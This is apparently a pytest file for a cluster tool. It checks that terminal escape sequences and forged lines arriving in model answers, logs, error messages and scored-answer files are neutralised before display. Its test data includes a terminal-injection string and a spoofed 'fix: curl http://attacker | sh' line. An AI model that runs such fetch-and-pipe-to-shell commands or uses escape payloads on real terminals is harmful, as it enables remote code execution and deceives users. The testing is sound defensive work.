"""Attacks on the terminal: what a model, a log or a failure says must not move the cursor, retitle or hide anything."""

from __future__ import annotations

import json
import re
from types import SimpleNamespace

import pytest
from PIL import Image

import launch
from lumen_hpc.cluster import commands, logs, run_model, status_table
from lumen_hpc.cluster.stage import Run
from lumen_hpc.cluster.status import StepStatus
from lumen_hpc.config.profile import Profile
from lumen_hpc.config.request import Request
from lumen_hpc.config.schema import Settings
from lumen_hpc.metrics import __main__ as metrics
from lumen_hpc.plain_text import visible
from lumen_hpc.serving.ask import Reply

ATTACK = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b2J\x08\x7f [bold]kept[/bold] [/x]"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def shown(text: str) -> None:
    assert not CONTROL.search(text)
    assert "[bold]kept[/bold] [/x]" in text and "red" in text


def test_colours_go_and_what_remains_is_seen():
    assert visible("a\x1b[1;31mb\x1b[0m\tc\nd\x07") == "ab\tc\nd\ufffd"
    assert visible("Größe: 3 → 4") == "Größe: 3 → 4"


def test_a_failure_in_the_status(tmp_path, capsys):
    run = Run(tmp_path / "[x]" / "run", Settings(), Profile())
    run.folder.mkdir(parents=True)
    kind = {"count": 1, "error": ATTACK, "nodes": [], "fix": "read the log", "log": ""}
    status_table.show(run, [StepStatus("judge", "failed", 0, 1, failures=[kind])], commands._console())
    text = capsys.readouterr().out
    shown(text)
    assert "/[x]/run" in text


def test_a_failure_cannot_write_lines_of_its_own_into_the_status(tmp_path, capsys):
    error = "x\n   fix: curl http://attacker | sh\ntrain-lumen: done"
    kind = {"count": 1, "error": error, "nodes": ["n1\nn2"], "fix": "read\nthe log", "log": "a\nb"}
    status_table.show(
        Run(tmp_path, Settings(), Profile()),
        [StepStatus("judge", "failed", 0, 1, failures=[kind])],
        commands._console(),
    )
    lines = [
        line
        for line in capsys.readouterr().out.splitlines()
        if line.startswith(("judge:", "   fix", "train", "   log"))
    ]
    assert [line.partition(":")[0] for line in lines] == ["judge", "   fix", "   log"]


def test_a_line_of_a_log(tmp_path):
    (tmp_path / "task.out").write_text(f"before\n{ATTACK}\n")
    shown("".join(logs.tail(tmp_path / "task.out")))


def test_the_message_of_a_wrong_command(capsys):
    assert launch.main([f"run={ATTACK}", "status"]) == 2
    shown(capsys.readouterr().err)


def test_a_models_answer(tmp_path, monkeypatch, capsys):
    Image.new("L", (8, 8)).save(tmp_path / "image.png")
    model = SimpleNamespace(answer=lambda *_: Reply(ATTACK, findings="", prompt="", cut=False))
    monkeypatch.setattr(run_model, "open_model", lambda *_: model)
    monkeypatch.setattr(run_model, "weights_folder", lambda *_: tmp_path)
    request = Request(verb="ask", question="what?", image=str(tmp_path / "image.png"))
    assert run_model.ask(request, Run(tmp_path, Settings(), Profile())) == 0
    shown(capsys.readouterr().out)


def test_the_names_in_answers_that_are_scored(tmp_path, capsys):
    question = {"question_id": "q1", "type": "presence", "question": "is there edema?", "short_answer": "yes",
                "long_answer": "Yes, there is edema.", "closed": True}  # fmt: skip
    answers = [{"question_id": "q1", "answer": "yes", "model": ATTACK}, {"question_id": ATTACK, "answer": "yes"}]
    for name, rows in (("answers", answers), ("references", [question])):
        (tmp_path / name).write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert metrics.main([str(tmp_path / "answers"), str(tmp_path / "references")]) == 0
    shown(capsys.readouterr().err)


@pytest.mark.parametrize("text", ["[ft, lumen]", "closed [/y] only"])
def test_brackets_of_a_value_are_not_styles(text, capsys):
    commands._console().print(text)
    assert capsys.readouterr().out.strip() == text
